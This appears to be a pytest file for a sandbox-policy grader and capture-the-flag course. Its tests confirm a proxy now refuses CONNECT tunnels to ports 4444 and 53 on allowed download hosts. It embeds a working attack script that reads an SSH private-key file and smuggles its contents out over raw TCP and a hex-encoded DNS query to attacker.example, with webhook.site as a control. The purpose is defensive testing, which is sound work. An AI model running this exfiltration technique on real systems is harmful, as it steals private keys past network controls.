"""Hosts answer only on their own ports, for real (issue 22, finding 4): the port attack no longer captures.

Every simulated host shares one address. The attack: a sandbox whose policy
allows only two download hosts (pypi.org and files.pythonhosted.org) asks its
proxy for ``CONNECT pypi.org:4444`` and sends the flag (the attacker's raw
listener used to take it), and for ``CONNECT pypi.org:53`` and sends a DNS
query spelling the flag under the attacker's zone (the attacker's nameserver
used to log it). Both captured the level while grading the same policy said
``network-scoped`` and ``no-secret-leaves`` pass. Neither channel exists on
the real internet. Now the proxy refuses both (the world gives those hosts
ports 80 and 443 only) and says so in its log; the level is not captured; and
the same attack through a name the attacker owns (``webhook.site``, allowed in
a control level) still captures, so the attack itself is sound and the test can fail.

Static and Docker agree on what each ``CONNECT host:port`` reaches
(``analyzer.tunnel``), as ``test_agreement.py`` holds them together on probes.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from grader import load_policy, load_world, predict
from grader.core.access import access_for
from grader.core.analyzer import tunnel
from grader.course.ladder import Level, build_job, judge, new_flag
from grader.core.plan import build_plan
from grader.services.proxy import NOT_SERVED

pytestmark = [pytest.mark.docker]

WORLD = load_world()
TWO_DOWNLOAD_HOSTS = {"filesystem": {"allowWrite": ["/project/out"]},
                      "network": {"allowedDomains": ["pypi.org", "files.pythonhosted.org"]}}
WITH_AN_ATTACKERS_NAME = {"filesystem": {"allowWrite": ["/project/out"]},
                          "network": {"allowedDomains": ["pypi.org", "webhook.site"]}}

# The attack, as a learner would write it: read the flag, then try every allowed host on the attacker's
# raw port and on the DNS port, through the proxy the sandbox was given.
PORT_ATTACK = r'''
import binascii, json, os, socket, struct, urllib.parse

HOSTS = {hosts!r}
flag = open("/home/user/.ssh/id_rsa").read().strip().splitlines()[-1]
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])

def tunnel(host, port):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=5)
    s.sendall(f"CONNECT {{host}}:{{port}} HTTP/1.1\r\nHost: {{host}}:{{port}}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    return s, head.split(b"\r\n", 1)[0].decode()

def dns_query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    q = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", 1, 1)
    return struct.pack(">H", len(q)) + q

for host in HOSTS:
    for port, payload in ((4444, (flag + "\n").encode()),
                          (53, dns_query(binascii.hexlify(flag.encode()).decode() + ".attacker.example"))):
        try:
            s, status = tunnel(host, port)
            answer = b""
            if " 200 " in status + " ":
                s.sendall(payload)
                s.shutdown(socket.SHUT_WR)
                answer = s.recv(512)
            s.close()
            print(json.dumps({{"host": host, "port": port, "status": status, "answered": len(answer)}}))
        except OSError as exc:
            print(json.dumps({{"host": host, "port": port, "status": "error " + str(exc)}}))
'''


def _level(policy: dict[str, Any], number: int, slug: str) -> Level:
    return Level(number=number, id=slug, title=slug, story="issue 22's port attack", policy=load_policy(policy),
                 flag_in=("/home/user/.ssh/id_rsa",), hints=("try another port",), teaches="ports")


def _attack(docker_backend: Any, policy: dict[str, Any], hosts: list[str]) -> tuple[Any, Any, list[dict[str, Any]]]:
    lvl = _level(policy, 90, "ports")
    flag = new_flag()
    ex = docker_backend.execute(lvl.plan(WORLD), build_job(lvl, PORT_ATTACK.format(hosts=hosts), flag))
    tried = [json.loads(line) for line in ex.output.splitlines() if line.startswith('{"host"')]
    return judge(lvl, ex, flag, world=WORLD), ex, tried


def test_the_port_attack_no_longer_captures_a_level_of_two_download_hosts(docker_backend: Any, no_leftovers: None) -> None:
    result, ex, tried = _attack(docker_backend, TWO_DOWNLOAD_HOSTS, ["pypi.org", "files.pythonhosted.org"])
    assert result.note == "", result.note  # every recorder answered: the silence means something
    assert len(tried) == 4, ex.output[-2000:]
    assert not result.captured and result.sinks == () and result.elsewhere == (), (result.sinks, result.elsewhere)
    assert all(t["status"].startswith("HTTP/1.1 502") for t in tried), tried
    # the refusal is on record: the proxy's decision, its reason, and nothing at the sinks
    assert ex.evidence is not None
    refused = {(r.host, r.port) for r in ex.evidence.proxy if r.decision == "deny" and r.reason.startswith(NOT_SERVED)}
    assert refused == {(h, p) for h in ("pypi.org", "files.pythonhosted.org") for p in (4444, 53)}, ex.evidence.proxy
    assert not [r for r in ex.evidence.tcp if result.flag in r.data]


def test_the_same_attack_through_a_name_the_attacker_owns_still_captures(docker_backend: Any, no_leftovers: None) -> None:
    """The control: the attack is sound. webhook.site is the attacker's server (the world does not know it),
    which serves its raw port and its nameserver; pypi.org beside it still serves neither."""
    result, ex, tried = _attack(docker_backend, WITH_AN_ATTACKERS_NAME, ["pypi.org", "webhook.site"])
    assert result.note == "", result.note
    status = {(t["host"], t["port"]): t["status"] for t in tried}
    assert all(status[("pypi.org", p)].startswith("HTTP/1.1 502") for p in (4444, 53)), status
    assert all(status[("webhook.site", p)].startswith("HTTP/1.1 200") for p in (4444, 53)), status
    assert result.captured, ex.output[-2000:]
    assert {h.how for h in result.sinks} == {"raw TCP (port 4444)", "DNS"}, result.sinks


def test_grading_the_two_host_policy_agrees_with_the_attack(docker_backend: Any, no_leftovers: None) -> None:
    """What the attack cannot do, grading says: no raw connection, no DNS tunnel, no secret leaves; static agrees."""
    policy = load_policy(TWO_DOWNLOAD_HOSTS)
    real = docker_backend.run(build_plan(policy))
    static = predict(policy)
    assert not real.notes, real.notes
    for pid in ("net-direct-ip", "net-dns-exfil", "net-attacker-domain", "exfil-secret", "exfil-via-allowed-domain"):
        assert real.outcome(pid).outcome == static.outcome(pid).outcome == "blocked", (pid, real.outcome(pid))


TUNNEL_CHECK = r'''
import json, os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
for host, port in {pairs!r}:
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=5)
    s.sendall(f"CONNECT {{host}}:{{port}} HTTP/1.1\r\n\r\n".encode())
    head = b""
    while b"\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    s.close()
    print(json.dumps({{"pair": [host, port], "status": head.decode().split(" ")[1] if head else ""}}))
'''


@pytest.mark.parametrize("policy", [TWO_DOWNLOAD_HOSTS, WITH_AN_ATTACKERS_NAME], ids=["two-download-hosts", "attackers-name"])
def test_static_and_docker_agree_on_every_tunnel(policy: dict[str, Any], docker_backend: Any, no_leftovers: None) -> None:
    """Each CONNECT host:port either opens (200) or is refused; ``analyzer.tunnel`` predicts which."""
    hosts = ["pypi.org", "files.pythonhosted.org", "webhook.site", "attacker.example", "upload.pypi.org"]
    pairs = [(h, p) for h in hosts for p in (443, 80, 4444, 53, 22)]
    lvl = _level(policy, 91, "tunnels")
    ex = docker_backend.execute(lvl.plan(WORLD), build_job(lvl, TUNNEL_CHECK.format(pairs=pairs), new_flag()))
    seen = {tuple(d["pair"]): d["status"] for d in map(json.loads, (x for x in ex.output.splitlines() if x.startswith('{"pair"')))}
    assert len(seen) == len(pairs), ex.output[-2000:]
    access = access_for(load_policy(policy), WORLD)
    wrong = [f"{h}:{p} static={tunnel(access, h, p)} docker={seen[(h, p)]}"
             for h, p in pairs if tunnel(access, h, p)[0] != (seen[(h, p)] == "200")]
    assert wrong == [], "\n".join(wrong)
